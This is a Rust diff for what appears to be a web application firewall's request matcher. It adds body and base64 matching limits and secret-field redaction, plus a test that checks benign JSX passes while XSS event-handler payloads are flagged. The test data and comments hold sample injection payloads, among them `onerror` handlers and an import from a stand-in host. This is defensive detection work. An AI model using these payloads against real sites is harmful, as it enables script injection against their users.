@@ -495,17 +495,35 @@ impl SignatureSet {
             let mime = request.mime_type().unwrap_or_default();
             let multipart = mime.starts_with("multipart/");
             if !body.raw.is_empty() && !multipart && !is_binary_type(&mime) {
-                // A body no parser took apart (text/plain, no or an unknown type) or one that
-                // is not what its type says (`{"q": ' OR 1=1 --` sent as JSON) is one value
-                // the application may read as it likes (PHP's php://input, lenient JSON
-                // parsers): the args lists see it whole, as they see a parsed body's fields.
-                let unparsed = body.kind == BodyKind::Raw || !body.errors.is_empty();
+                // A text/plain or untyped body no parser took apart, or one that is not what
+                // its type says and gave no fields (`{"q": ' OR 1=1 --` sent as JSON), is
+                // one value the application may read as it likes (PHP's php://input,
+                // lenient JSON parsers): the args lists see it whole, as they see a parsed
+                // body's fields. Other types (text/html, application/sql, scripts, CSV) are
+                // documents, as uploads are; so is a body that names a secret (`password=`),
+                // whose matched text would otherwise reach the audit log unredacted.
+                let unparsed = ((body.kind == BodyKind::Raw
+                    && (mime.is_empty() || mime == "text/plain"))
+                    || (!body.errors.is_empty() && body.args.is_empty()))
+                    && !holds_a_secret_field(&body.raw);
                 locs.push(Location {
                     place: Place::Body,
                     value: &body.raw,
                     targets: Target::Body.bit() | if unparsed { args } else { 0 },
                     repeat_head: NO_REPEAT,
                 });
+                // A JSON document followed by more text (`{"c": "hi"} <script>...`): the
+                // fields are values already, and so is the text the parser stopped at.
+                if let Some(tail) =
+                    json_tail(body).filter(|t| !t.is_empty() && !holds_a_secret_field(t))
+                {
+                    locs.push(Location {
+                        place: Place::Body,
+                        value: tail,
+                        targets: args,
+                        repeat_head: NO_REPEAT,
+                    });
+                }
             }
         }
         (locs, repeats)
@@ -988,16 +1006,22 @@ fn path_segments(path_raw: &str) -> Vec<Cow<'_, [u8]>> {
 /// document gives its fields, each a value of its own (the quotes and colons around them
 /// are the encoder's, not a payload's). Header values are left alone: `Authorization:
 /// Basic` holds a password, and findings show what matched.
+///
+/// Bounded per request: decoded texts longer than [`BASE64_MAX_DECODED`] are documents
+/// (an attachment's HTML or SQL file; uploads are not matched against the args lists
+/// either), and at most [`BASE64_MAX_LOCATIONS`] decoded values are added. Fields of a
+/// decoded document whose names name a secret are left out (their matched text would be
+/// reported under the outer argument's name, unredacted).
 fn base64_values(request: &RequestModel) -> Vec<(Place<'_>, Vec<u8>)> {
     use palisade_http::transform::base64_text;
     fn add<'r>(place: Place<'r>, text: Vec<u8>, out: &mut Vec<(Place<'r>, Vec<u8>)>) {
         if matches!(text.first(), Some(b'{' | b'[')) {
             let mut fields = Vec::new();
-            if palisade_http::json::flatten(&text, 1000, &mut fields).is_ok() {
+            if palisade_http::json::flatten(&text, BASE64_MAX_LOCATIONS, &mut fields).is_ok() {
                 out.extend(
                     fields
                         .into_iter()
-                        .filter(|f| !f.value.is_empty())
+                        .filter(|f| !f.value.is_empty() && !names_a_secret(f.name.as_bytes()))
                         .map(|f| (place, f.value)),
                 );
                 return;
@@ -1007,17 +1031,92 @@ fn base64_values(request: &RequestModel) -> Vec<(Place<'_>, Vec<u8>)> {
     }
     let mut out = Vec::new();
     let body_args = request.body.as_ref().map_or(&[][..], |b| &b.args[..]);
-    for arg in request.args_get.iter().chain(body_args) {
-        if let Some(text) = base64_text(&arg.value) {
-            add(Place::ArgValueBase64(&arg.name), text, &mut out);
+    let args = request
+        .args_get
+        .iter()
+        .chain(body_args)
+        .map(|a| (Place::ArgValueBase64(&a.name), &a.value));
+    let cookies = request
+        .cookies
+        .iter()
+        .map(|c| (Place::CookieValueBase64(&c.name), &c.value));
+    for (place, value) in args.chain(cookies) {
+        if out.len() >= BASE64_MAX_LOCATIONS {
+            break;
+        }
+        if let Some(text) = base64_text(value).filter(|t| t.len() <= BASE64_MAX_DECODED) {
+            add(place, text, &mut out);
         }
     }
-    for cookie in &request.cookies {
-        if let Some(text) = base64_text(&cookie.value) {
-            add(Place::CookieValueBase64(&cookie.name), text, &mut out);
-        }
-    }
+    out.truncate(BASE64_MAX_LOCATIONS);
     out
+}
+
+/// The bytes of a JSON body from where its parser stopped, when it stopped after reading
+/// fields (the error offset is in the parser's message: `json: ... at byte N`).
+fn json_tail(body: &palisade_http::BodyModel) -> Option<&[u8]> {
+    if body.kind != BodyKind::Json || body.args.is_empty() {
+        return None;
+    }
+    let at = body.errors.iter().find_map(|e| {
+        e.strip_prefix("json: ")?
+            .rsplit_once(" at byte ")?
+            .1
+            .parse::<usize>()
+            .ok()
+    })?;
+    body.raw.get(at..)
+}
+
+/// Longest base64-decoded text matched as an argument value.
+const BASE64_MAX_DECODED: usize = 4096;
+/// Most base64-decoded values (or decoded documents' fields) matched per request.
+const BASE64_MAX_LOCATIONS: usize = 256;
+
+/// Whether `name` marks a secret (the audit log's default redaction list, less its short
+/// parts): `password`, `secret`, `token`, ... ASCII case ignored.
+fn names_a_secret(name: &[u8]) -> bool {
+    secret_name_ends(name).next().is_some()
+}
+
+/// Whether `text` assigns a field whose name marks a secret (`password=`, `"api_token":`):
+/// a secret name, more name bytes, an optional closing quote, then `=` or `:`.
+fn holds_a_secret_field(text: &[u8]) -> bool {
+    secret_name_ends(text).any(|end| {
+        let rest = &text[end..];
+        let name_end = rest
+            .iter()
+            .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-'))
+            .unwrap_or(rest.len());
+        let rest = &rest[name_end..];
+        let rest = rest
+            .strip_prefix(b"\"")
+            .or(rest.strip_prefix(b"'"))
+            .unwrap_or(rest);
+        let rest = rest.trim_ascii_start();
+        matches!(rest.first(), Some(b'=' | b':'))
+    })
+}
+
+/// The end offsets of secret names in `text`.
+fn secret_name_ends(text: &[u8]) -> impl Iterator<Item = usize> + '_ {
+    // (not `pass` alone: /etc/passwd is the payload most often sent)
+    const PARTS: [&[u8]; 8] = [
+        b"password",
+        b"passphrase",
+        b"secret",
+        b"token",
+        b"api_key",
+        b"apikey",
+        b"credential",
+        b"private_key",
+    ];
+    (0..text.len()).flat_map(move |i| {
+        PARTS.iter().filter_map(move |p| {
+            let end = i + p.len();
+            (end <= text.len() && text[i..end].eq_ignore_ascii_case(p)).then_some(end)
+        })
+    })
 }
 
 /// Whether `value` is a decimal number (short ones only: a long run of digits is no
@@ -1725,6 +1824,43 @@ mod tests {
             .collect();
         let digits = set(Target::Args, FileKind::Regex, "s\\.[0-2]\\.union\n");
         assert_eq!(targets(&digits, &m), own);
+    }
+
+    #[test]
+    fn braced_event_handlers_are_jsx_only_as_references_or_arrows() {
+        let set = SignatureSet::builtin().expect("built-in set");
+        let findings = |value: &str| {
+            let mut m = RequestModel::from_head("GET", "/", "HTTP/1.1", Default::default());
+            m.args_get.push(palisade_http::Arg {
+                name: "comment".into(),
+                value: value.as_bytes().to_vec(),
+                name_repeats: None,
+            });
+            let mut out = Vec::new();
+            set.match_request(&m, 1, &mut out);
+            out
+        };
+        for jsx in [
+            "<Row key={i.id} onClick={() => open(i)} />",
+            "<input value=\"\" onChange={e => setQ(e.target.value)} />",
+            "<button type=\"submit\" onClick={async () => { await save(); }}>Go</button>",
+            "<Item onSelect={({ id }) => pick(id)} /> <X onClick={this.handleClick} />",
+        ] {
+            assert!(findings(jsx).is_empty(), "{jsx}: {:?}", findings(jsx));
+        }
+        for handler in [
+            "{alert(1)}",
+            "{;location=name}",
+            "{a:import('//x.example')}",
+            "{alert?.(document.domain)}",
+            "{void alert(1)}",
+            "{(()=>alert(1))()}",
+            "{!alert(1)}",
+            "{top['alert'](1)}",
+        ] {
+            let payload = format!("<img src=x onerror={handler}>");
+            assert!(!findings(&payload).is_empty(), "{payload} passed");
+        }
     }
 
     #[test]
